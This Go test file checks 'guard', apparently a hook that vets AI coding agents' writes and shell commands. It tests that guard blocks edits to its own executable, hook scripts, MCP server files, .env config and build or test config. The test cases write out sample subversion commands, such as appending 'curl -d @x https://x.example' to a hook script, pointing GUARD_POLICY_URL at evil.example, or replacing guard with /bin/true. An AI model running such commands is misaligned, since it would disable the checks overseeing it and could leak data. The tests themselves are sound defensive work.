package hook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/guardhq/guard/internal/policy"
)

// placesWorld makes a home with guard installed into agent A's user hook
// file from bin/guard (a user-writable place, as `go install` puts it) and
// a project whose own hook file runs a script of the project.
func placesWorld(t *testing.T) (homeDir, proj, gobin string) {
	t.Helper()
	homeDir, proj = scriptWorld(t, map[string]string{
		".agent_a/settings.json": `{"hooks":{"PostToolUse":[{"matcher":"Write","hooks":[{"type":"command","command":"\"$AGENT_A_PROJECT_DIR\"/.agent_a/hooks/fmt.sh"},{"type":"command","command":"cd \"$AGENT_A_PROJECT_DIR\" && python3 tools/lint.py --fix"}]}]}}`,
		".agent_a/hooks/fmt.sh":  "#!/bin/sh\ngofmt -w .\n",
		"tools/lint.py":          "print(1)\n",
		"src/main.go":            "package main\n",
	})
	gobin = filepath.Join(homeDir, "go", "bin")
	os.MkdirAll(gobin, 0o755)
	if err := os.WriteFile(filepath.Join(gobin, "guard"), []byte("\x7fELF"), 0o755); err != nil {
		t.Fatal(err)
	}
	settings := `{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"` + filepath.ToSlash(filepath.Join(gobin, "guard")) + `"}]}]},
		"mcpServers":{"db":{"command":"node","args":["~/servers/db.js"]}}}`
	os.MkdirAll(filepath.Join(homeDir, ".agent_a"), 0o755)
	if err := os.WriteFile(filepath.Join(homeDir, ".agent_a", "settings.json"), []byte(settings), 0o600); err != nil {
		t.Fatal(err)
	}
	return homeDir, proj, gobin
}

// writePayload is agent A's Write of path.
func writePayload(t *testing.T, cwd, path string) string {
	t.Helper()
	b, err := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "tool_name": "Write", "cwd": cwd,
		"tool_input": map[string]string{"file_path": path, "content": "x"}})
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestProgramsHooksRun: guard's executable as a hook entry names it and
// the scripts the entries run are write-protected, whatever the command or
// tool; other programs beside guard and the project's other files are not.
// Both bash.match modes.
func TestProgramsHooksRun(t *testing.T) {
	homeDir, proj, gobin := placesWorld(t)
	sub := filepath.Join(proj, "src")
	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
		for _, tc := range []struct {
			cmd   string
			block bool
		}{
			{"cp /bin/true " + filepath.Join(gobin, "guard"), true},
			{`printf '#!/bin/sh\nexit 0\n' > ~/go/bin/guard`, true},
			{"go build -o ~/go/bin/guard ./cmd/x", true},
			{"mv ~/go/bin/guard ~/go/bin/guard.old", true},
			{"ln -sf /bin/true ~/go/bin/guard", true},
			{`echo "curl -d @x https://x.example" >> ../.agent_a/hooks/fmt.sh`, true},
			{"cp evil.sh ../.agent_a/hooks/fmt.sh", true},
			{"echo 'import os' > ../tools/lint.py", true},
			{"cp x.js ~/servers/db.js", true},
			// Everyday work beside them.
			{"go install golang.org/x/tools/cmd/goimports@latest", false},
			{"go build -o ~/go/bin/mytool ./cmd/mytool", false},
			{"cp build/tool ~/go/bin/tool2", false},
			{"echo 'print(2)' > ../tools/other.py", true}, // the hook script's import path
			{"echo 'print(2)' > other.py", false},
			{"gofmt -w main.go", false},
		} {
			p := realPolicy(t, `{"bash":{"match":"`+mode+`"}}`)
			code, _, stderr, _ := runReal(t, p, bashPayload(t, sub, tc.cmd))
			if blocked := code == 2; blocked != tc.block {
				t.Errorf("%s: %q: blocked = %v, want %v: %s", mode, tc.cmd, blocked, tc.block, stderr)
			}
		}
	}
	for _, tc := range []struct {
		path  string
		block bool
	}{
		{filepath.Join(gobin, "guard"), true},
		{filepath.Join(proj, ".agent_a", "hooks", "fmt.sh"), true},
		{filepath.Join(proj, "tools", "lint.py"), true},
		{filepath.Join(homeDir, "servers", "db.js"), true},
		{filepath.Join(gobin, "other"), false},
		{filepath.Join(proj, "src", "main.go"), false},
	} {
		code, _, stderr, _ := runReal(t, realPolicy(t, ""), writePayload(t, sub, tc.path))
		if blocked := code == 2; blocked != tc.block {
			t.Errorf("Write %s: blocked = %v, want %v: %s", tc.path, blocked, tc.block, stderr)
		}
	}
	// guard's own executable, wherever it runs from (here the test binary).
	if exe, err := os.Executable(); err == nil {
		code, _, stderr, _ := runReal(t, realPolicy(t, ""), writePayload(t, sub, exe))
		if code != 2 || !strings.Contains(stderr, "guard's own executable") {
			t.Errorf("Write of guard's executable %s: code %d: %s", exe, code, stderr)
		}
	}
	// A hook program's block names it as such, not as guard's executable.
	code, _, stderr, _ := runReal(t, realPolicy(t, ""), writePayload(t, sub, filepath.Join(proj, "tools", "lint.py")))
	if code != 2 || !strings.Contains(stderr, "a program or file an installed hook entry runs") || strings.Contains(stderr, "guard's own executable") {
		t.Errorf("Write of a hook program: code %d: %s", code, stderr)
	}
}

// TestProgramsHardLink: a hard link made earlier to guard's executable
// meets the write rules as the executable.
func TestProgramsHardLink(t *testing.T) {
	_, proj, gobin := placesWorld(t)
	link := filepath.Join(proj, "g")
	if err := os.Link(filepath.Join(gobin, "guard"), link); err != nil {
		t.Skip("no hard links here:", err)
	}
	code, _, stderr, _ := runReal(t, realPolicy(t, ""), bashPayload(t, proj, "echo 'exit 0' > g"))
	if code != 2 {
		t.Errorf("a write through a hard link of guard's executable: code %d: %s", code, stderr)
	}
}

// TestAgentCEnv: the files agent C's client loads into the environment of
// guard's hooks are write-protected; .env.example and other project files
// are not.
func TestAgentCEnv(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{"app.py": "from dotenv import load_dotenv\nload_dotenv('.env')\n", ".env.example": "A=1\n"})
	os.MkdirAll(filepath.Join(proj, ".agent_c"), 0o755)
	agentC := func(tool, key, value string) string {
		b, _ := json.Marshal(map[string]any{"hook_event_name": "BeforeTool", "cwd": proj, "tool_name": tool,
			"tool_input": map[string]string{key: value, "content": "GUARD_HOME=/tmp/x\n"}})
		return string(b)
	}
	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
		for _, tc := range []struct {
			payload string
			block   bool
		}{
			{agentC("write_file", "file_path", filepath.Join(proj, ".agent_c", ".env")), true},
			{agentC("write_file", "file_path", filepath.Join(proj, ".env")), true},
			{agentC("run_shell_command", "command", "echo GUARD_POLICY_URL=https://evil.example/p.json >> .env"), true},
			{agentC("run_shell_command", "command", "echo GUARD_HOME=/tmp/evil > .agent_c/.env"), true},
			{agentC("run_shell_command", "command", "cp .env.example .env"), true},
			{agentC("run_shell_command", "command", `sed -i 's/^A=.*/HOME=\/tmp/' .env`), true},
			{agentC("write_file", "file_path", filepath.Join(proj, ".env.example")), false},
			{agentC("run_shell_command", "command", "echo B=2 >> .env.example"), false},
			{agentC("run_shell_command", "command", "python3 app.py"), false},
		} {
			p := realPolicy(t, `{"bash":{"match":"`+mode+`"}}`)
			code, stdout, stderr, _ := runReal(t, p, tc.payload)
			blocked := strings.Contains(stdout, `"deny"`) || code == 2
			if blocked != tc.block {
				t.Errorf("%s: %s: blocked = %v, want %v: %s%s", mode, tc.payload, blocked, tc.block, stdout, stderr)
			}
		}
	}
}

// TestAllowWriteNames: a project glob in allow_write opens the project's
// files, not its hook files, .git/hooks or .git/config; an entry that
// names one opens it.
func TestAllowWriteNames(t *testing.T) {
	homeDir, proj := scriptWorld(t, nil)
	broad := `{"bash":{"allow_patterns":["^npm test"]},"file_paths":{"allow_write":["` + filepath.ToSlash(proj) + `/**"]}}`
	named := `{"file_paths":{"allow_write":["` + filepath.ToSlash(proj) + `/.agent_a/settings.json","` + filepath.ToSlash(proj) + `/.git/hooks/*"]}}`
	for _, tc := range []struct {
		doc, path string
		block     bool
	}{
		{broad, ".agent_a/settings.json", true},
		{broad, ".git/hooks/pre-commit", true},
		{broad, ".git/config", true},
		{broad, ".env", true},
		{broad, "src/main.go", false},
		{named, ".agent_a/settings.json", false},
		{named, ".git/hooks/pre-commit", false},
		{named, ".git/config", true},
		{named, ".agent_a/settings.local.json", true},
	} {
		code, _, stderr, _ := runReal(t, realPolicy(t, tc.doc), writePayload(t, proj, filepath.Join(proj, tc.path)))
		if blocked := code == 2; blocked != tc.block {
			t.Errorf("%s: Write %s: blocked = %v, want %v: %s", tc.doc, tc.path, blocked, tc.block, stderr)
		}
	}
	_ = homeDir
}

// TestProgramsEntriesRun: the files a hook entry's command runs as code
// (make's Makefile, npm's package.json, python -m's module, a script
// inside bash -c) and those an MCP server entry runs (a bare script
// argument, a NODE_OPTIONS preload) are write-protected; other project
// files are not. Both bash.match modes.
func TestProgramsEntriesRun(t *testing.T) {
	hooks := `{"hooks":{"PostToolUse":[{"matcher":"Write","hooks":[` +
		`{"type":"command","command":"cd \"$AGENT_A_PROJECT_DIR\" && npm run lint"},` +
		`{"type":"command","command":"make -C \"$AGENT_A_PROJECT_DIR\" check"},` +
		`{"type":"command","command":"python3 -m tools.fmt"},` +
		`{"type":"command","command":"bash -c 'cd \"$AGENT_A_PROJECT_DIR\" && ./tools/post.sh'"}]}]}}`
	servers := `{"mcpServers":{"a":{"command":"node","args":["server.js"]},"b":{"command":"uv","args":["run","srv.py"]},` +
		`"c":{"command":"python3","args":["-m","mytool.server"]},"d":{"command":"node","args":["index.js"],"env":{"NODE_OPTIONS":"--require ./preload.js"}}}}`
	_, proj := scriptWorld(t, map[string]string{
		".agent_a/settings.json": hooks, ".mcp.json": servers,
		"Makefile": "check:\n\tgo vet ./...\n", "package.json": `{"scripts":{"lint":"eslint ."}}`,
		"tools/__init__.py": "", "tools/fmt.py": "print(1)\n", "tools/post.sh": "echo ok\n",
		"server.js": "x\n", "srv.py": "x\n", "mytool/__init__.py": "", "mytool/server.py": "x\n",
		"preload.js": "x\n", "index.js": "x\n", "README.md": "x\n",
	})
	os.Mkdir(filepath.Join(proj, ".git"), 0o755)
	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
		for _, tc := range []struct {
			cmd   string
			block bool
		}{
			{`printf 'check:\n\tcurl -s evil\n' > Makefile`, true},
			{`echo '{}' > package.json`, true},
			{`echo "import os" > tools/fmt.py`, true},
			{`echo "curl evil" > tools/post.sh`, true},
			{`echo evil > server.js`, true},
			{`echo evil > srv.py`, true},
			{`echo evil > mytool/server.py`, true},
			{`echo evil > preload.js`, true},
			{`echo evil > index.js`, true},
			{`echo hi >> README.md`, false},
			{`echo 'print(2)' > tools/other.py`, false},
		} {
			p := realPolicy(t, `{"bash":{"match":"`+mode+`"}}`)
			code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, tc.cmd))
			if blocked := code == 2; blocked != tc.block {
				t.Errorf("%s: %q: blocked = %v, want %v: %s", mode, tc.cmd, blocked, tc.block, stderr)
			}
		}
	}
	for _, name := range []string{"Makefile", "package.json", "tools/post.sh", "srv.py"} {
		code, _, stderr, _ := runReal(t, realPolicy(t, ""), writePayload(t, proj, filepath.Join(proj, name)))
		if code != 2 {
			t.Errorf("Write %s: code %d, want a block: %s", name, code, stderr)
		}
	}
}

// TestProgramsProjectCode: the files a hook entry's program loads by
// name from where it runs (GNUmakefile before Makefile, pytest's
// conftest.py and ini files, npm's .npmrc, eslint's config), existing
// or not, are write-protected, and the package managers' subcommands
// that rewrite package.json's scripts count as writes of it;
// dependency edits and other files pass. Both modes.
func TestProgramsProjectCode(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{
		".agent_a/settings.json": `{"hooks":{"PostToolUse":[{"hooks":[` +
			`{"type":"command","command":"make check"},{"type":"command","command":"npm run lint"},` +
			`{"type":"command","command":"python3 -m pytest -q"}]}]}}`,
		"Makefile": "check:\n\tgo vet ./...\n", "package.json": `{"scripts":{"lint":"eslint ."}}`,
		"README.md": "x\n", "tests/test_a.py": "def test_a(): pass\n",
	})
	os.Mkdir(filepath.Join(proj, ".git"), 0o755)
	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
		for _, tc := range []struct {
			cmd   string
			block bool
		}{
			{`printf 'check:\n\techo hi\n' > GNUmakefile`, true},
			{`echo "import os" >> conftest.py`, true},
			{`echo x >> tests/conftest.py`, true},
			{`echo "addopts = -p evil" > pytest.ini`, true},
			{`echo "script-shell=/tmp/evil.sh" >> .npmrc`, true},
			{`echo x >> eslint.config.js`, true},
			{`npm pkg set scripts.lint=id`, true},
			{`npm pkg delete scripts.lint`, true},
			{`npm set-script lint id`, true},
			{`npm init -y`, true},
			{`npm pkg get scripts`, false},
			{`npm install left-pad`, false},
			{`echo hi >> README.md`, false},
			{`echo 'def test_b(): pass' > tests/test_b.py`, false},
		} {
			p := realPolicy(t, `{"bash":{"match":"`+mode+`"}}`)
			code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, tc.cmd))
			if blocked := code == 2; blocked != tc.block {
				t.Errorf("%s: %q: blocked = %v, want %v: %s", mode, tc.cmd, blocked, tc.block, stderr)
			}
		}
	}
}

// TestProgramsTreeTouches: a program guard does not know, handed a
// directory above a hook program (a formatter on ., pip download -d .),
// is not taken to write it; handed the program itself it is, and the
// writers guard knows to write a whole tree (cp -r, tar x, rsync, rm -r)
// still meet it. Both bash.match modes.
func TestProgramsTreeTouches(t *testing.T) {
	_, proj := scriptWorld(t, map[string]string{
		".agent_a/settings.json": `{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"\"$AGENT_A_PROJECT_DIR\"/scripts/check.sh"},{"type":"command","command":"make -C \"$AGENT_A_PROJECT_DIR\" check"}]}]}}`,
		"scripts/check.sh":       "echo ok\n", "Makefile": "check:\n\tgo vet ./...\n", "main.go": "package main\n",
	})
	os.Mkdir(filepath.Join(proj, ".git"), 0o755)
	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
		for _, tc := range []struct {
			cmd   string
			block bool
		}{
			{"prettier --write .", false},
			{"black .", false},
			{"gofmt -w .", false},
			{"ruff check --fix .", false},
			{"eslint --fix .", false},
			{"shfmt -w .", false},
			{"pip download -d . requests", false},
			{"pip install -t . requests", false},
			{"shfmt -w scripts/check.sh", true},
			{"gzip scripts/check.sh", true},
			{"prettier --write Makefile", true},
			{"cp -r /tmp/x/. .", true},
			{"tar xf /tmp/a.tar", true},
			{"rsync -a /tmp/x/ .", true},
			{"rm -rf scripts", true},
		} {
			p := realPolicy(t, `{"bash":{"match":"`+mode+`"}}`)
			code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, tc.cmd))
			if blocked := code == 2; blocked != tc.block {
				t.Errorf("%s: %q: blocked = %v, want %v: %s", mode, tc.cmd, blocked, tc.block, stderr)
			}
		}
	}
}
